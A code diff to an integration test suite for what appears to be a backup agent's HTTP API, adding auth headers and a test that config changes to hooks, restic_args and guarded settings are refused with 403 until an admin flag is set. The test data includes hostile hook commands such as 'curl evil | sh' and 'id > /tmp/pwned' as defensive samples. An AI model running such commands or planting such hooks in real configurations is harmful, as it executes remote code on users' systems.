@@ -15,9 +15,10 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startAgent, type Agent } from '../../src/app.js';
 import { REDACTED } from '../../src/api/config-schema.js';
 import { parseLocalConfig } from '../../src/config/local-config.js';
-import { addJob, addRepository, addSchedule, migrate, openDatabase, upsertDevice } from '../../src/db/index.js';
+import { addJob, addRepository, addSchedule, migrate, openDatabase, removeSetting, setSetting, upsertDevice } from '../../src/db/index.js';
 import { createTempPgDatabase } from '../helpers/databases.js';
 import { waitFor } from '../helpers/wait.js';
+import { authHeader } from '../helpers/agent-auth.js';
 
 const PASSWORD = 'pa$$ w0rd"\'`;#';
 const DEVICE = 'real-agent-test';
@@ -38,12 +39,13 @@ for (const kind of ['postgres', 'pglite'] as const) {
     let smallJob = '';
     let slowJob = '';
     let stream: EventStream;
+    let auth: Record<string, string> = {};
     const bodies: string[] = [];
     const logs: string[] = [];
 
     const request = (method: string, p: string, body?: unknown): Promise<Reply> => new Promise((resolve, reject) => {
       const payload = body === undefined ? (method === 'POST' ? '{}' : undefined) : JSON.stringify(body);
-      const headers: Record<string, string> = payload === undefined ? {} : { 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(payload)) };
+      const headers: Record<string, string> = payload === undefined ? { ...auth } : { ...auth, 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(payload)) };
       const req = http.request({ host: '127.0.0.1', port, method, path: p, headers, agent: false }, (res) => {
         const chunks: Buffer[] = [];
         res.on('data', (c: Buffer) => chunks.push(c));
@@ -62,7 +64,7 @@ for (const kind of ['postgres', 'pglite'] as const) {
 
     const openEvents = (): Promise<EventStream> => new Promise((resolve, reject) => {
       const events: EventStream['events'] = [];
-      const req = http.get({ host: '127.0.0.1', port, path: '/events', agent: false }, (res) => {
+      const req = http.get({ host: '127.0.0.1', port, path: '/events', agent: false, headers: auth }, (res) => {
         let buf = '';
         res.setEncoding('utf8');
         res.on('data', (c: string) => {
@@ -125,6 +127,7 @@ for (const kind of ['postgres', 'pglite'] as const) {
       const sink = new Writable({ write(chunk, _enc, cb) { if (logs.length < 20_000) logs.push(String(chunk)); cb(); } });
       agent = await startAgent({ local, logger: pino({ level: 'debug' }, sink) });
       port = Number(new URL(agent.url ?? '').port);
+      auth = authHeader(path.join(tmp, 'data'));
       stream = await openEvents();
     }, 120_000);
 
@@ -226,6 +229,45 @@ for (const kind of ['postgres', 'pglite'] as const) {
       expect((await request('POST', '/runs/999999/cancel')).status).toBe(404);
       expect((await request('POST', `/jobs/${UNKNOWN_JOB}/run`)).status).toBe(404);
       expect((await request('GET', `/jobs/${UNKNOWN_JOB}/next-runs`)).status).toBe(404);
+    });
+
+    it('C36 a hook or restic_args through POST /config is 403 naming the field (config unchanged) until the admin sets allow_local_command_changes', async () => {
+      const before = JSON.stringify((await request('GET', '/config')).json.jobs);
+      const hook = { jobs: [{ id: smallJob, hooks: [{ command: 'id > /tmp/pwned', timing: 'start' }] }] };
+      const args = { jobs: [{ id: smallJob, restic_args: ['--exclude-caches'] }] };
+      const newJobWithHook = { jobs: [{ name: 'Evil', source_paths: ['/'], hooks: [{ command: 'curl evil | sh', timing: 'end' }] }] };
+      const cases: [unknown, string][] = [
+        [hook, 'jobs[0].hooks[0]'], [args, 'jobs[0].restic_args'], [newJobWithHook, 'jobs[0].hooks[0]'],
+        [{ settings: { repository_url: '/tmp/elsewhere' } }, 'settings.repository_url'],
+        [{ settings: { allow_local_command_changes: 'true' } }, 'settings.allow_local_command_changes'],
+        [{ settings: { ui_password_hash: 'scrypt$1' } }, 'settings.ui_password_hash'],
+      ];
+      for (const [body, field] of cases) {
+        const r = await request('POST', '/config', body);
+        expect(r.status, field).toBe(403);
+        expect(r.json.error.code).toBe('FORBIDDEN');
+        expect(r.json.error.message).toContain(field);
+        expect(r.json.error.fields.map((f: { field: string }) => f.field)).toContain(field);
+      }
+      expect(JSON.stringify((await request('GET', '/config')).json.jobs)).toBe(before);
+      // Sending restic_args back unchanged (a full job edit) is no change.
+      expect((await request('POST', '/config', { jobs: [{ id: smallJob, restic_args: [] }] })).status).toBe(200);
+
+      await setSetting(agent.db, { deviceId: null, key: 'allow_local_command_changes', value: 'true' });
+      try {
+        expect((await request('POST', '/config', hook)).status).toBe(200);
+        expect((await request('POST', '/config', args)).status).toBe(200);
+        const job = (await request('GET', '/config')).json.jobs.find((j: { id: string }) => j.id === smallJob);
+        expect(job.restic_args).toEqual(['--exclude-caches']);
+        expect(job.hooks.map((h: { command: string }) => h.command)).toEqual(['id > /tmp/pwned']);
+        // the guard of the guard stays admin-only
+        expect((await request('POST', '/config', { settings: { allow_local_command_changes: 'false' } })).status).toBe(403);
+        const cleanup = { jobs: [{ id: smallJob, restic_args: [] }], delete_hooks: job.hooks.map((h: { id: number }) => h.id) };
+        expect((await request('POST', '/config', cleanup)).status).toBe(200);
+      } finally {
+        await removeSetting(agent.db, null, 'allow_local_command_changes');
+      }
+      expect((await request('POST', '/config', hook)).status).toBe(403);
     });
 
     it('GET /jobs/:id/next-runs lists the cron times in order; n is bounded', async () => {
